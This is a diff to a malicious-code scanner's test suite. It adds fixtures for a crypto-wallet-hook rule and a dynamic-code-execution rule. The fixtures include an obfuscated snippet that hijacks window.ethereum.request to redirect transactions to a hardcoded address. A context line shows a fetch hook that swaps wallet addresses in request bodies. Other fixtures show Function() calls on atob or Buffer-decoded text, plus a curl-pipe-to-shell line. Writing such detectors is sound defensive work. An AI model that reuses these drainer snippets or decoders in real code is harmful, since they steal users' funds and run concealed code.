@@ -3378,6 +3378,13 @@ describe('crypto-wallet-hook: the chalk and debug drainer of September 2025', ()
     expect(hook('src/debug/wallet-log.ts', ['window.ethereum.request = logged(window.ethereum.request);', "const isTreasury = (p) => p.params[0].to === '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';"])).toBe('medium');
   });
 
+  it("a request's recipient rewritten in flight to an address written out counts as the hook, however the wallet was reached (names hidden in a string table)", () => {
+    const hidden = "var _$_1e42=['ethereum','request'];(function(w){var r=w[_$_1e42[0]][_$_1e42[1]].bind(w[_$_1e42[0]]);w[_$_1e42[0]][_$_1e42[1]]=function(a){if(a&&a.params&&a.params[0]){a.params[0].to='0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024';}return r(a);};})(window);";
+    expect(hook('index.js', [hidden])).toBe('critical');
+    expect(hook('src/inject.ts', ['const wrapped = (a) => {', "  a.params[0]['to'] = '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024';", '  return send(a);', '};'])).toBe('critical');
+    // A request built with its recipient, or a recipient compared, is no rewrite.
+    expect(hook('src/pay.ts', ["const req = { method: 'eth_sendTransaction', params: [{ to: '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024', value }] };", "if (req.params[0].to === '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024') log('treasury');"])).toBeUndefined();
+  });
   it('a network hook that rewrites text by a wallet address pattern is high even with one address written out', () => {
     const drainer = ["const _f = globalThis.fetch; globalThis.fetch = async (u, o) => { if (o && o.body) o.body = String(o.body).replace(/0x[a-fA-F0-9]{40}/g, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'); return _f(u, o); };"];
     expect(hook('src/index.js', drainer)).toBe('high');
@@ -5151,5 +5158,17 @@ describe('agent-instruction-dangerous: harmful orders in the prompts a program g
     expect(prompt('src/cli/help.ts', ["const installInstructions = 'Run: curl -fsSL https://get.tool.example/install.sh | sh';"])).toEqual([]);
     expect(prompt('tests/prompts/injections.txt', [WIPE])).toEqual([]);
     expect(prompt('docs/prompts.md', [WIPE])).toEqual([]);
+  });
+});
+
+describe('dynamic-code-execution: Function called without new on decoded text (the GlassWorm decoders)', () => {
+  const sink = (lines: string[]) => scan([makeFile('src/decode.ts', { patch: hunk(lines) })]).filter((f) => f.id === 'dynamic-code-execution').map((f) => f.line);
+  it('reads Function(new TextDecoder().decode(…))(), Function(atob(…)) and Function(Buffer.from(…)) as compiling text', () => {
+    expect(sink(['export const run = () => Function(new TextDecoder().decode(Uint8Array.from(bytes)))();'])).toEqual([11]);
+    expect(sink(['const f = Function(atob(blob));'])).toEqual([11]);
+    expect(sink(["Function(Buffer.from(cfg, 'base64').toString())();"])).toEqual([11]);
+  });
+  it('leaves a call of a function named Function-something, a type and a value test alone', () => {
+    expect(sink(['const ok = isFunction(handler) && handler instanceof Function;', 'type Handler = (cb: Function) => void;', 'const name = toFunction(atob(id));'])).toEqual([]);
   });
 });
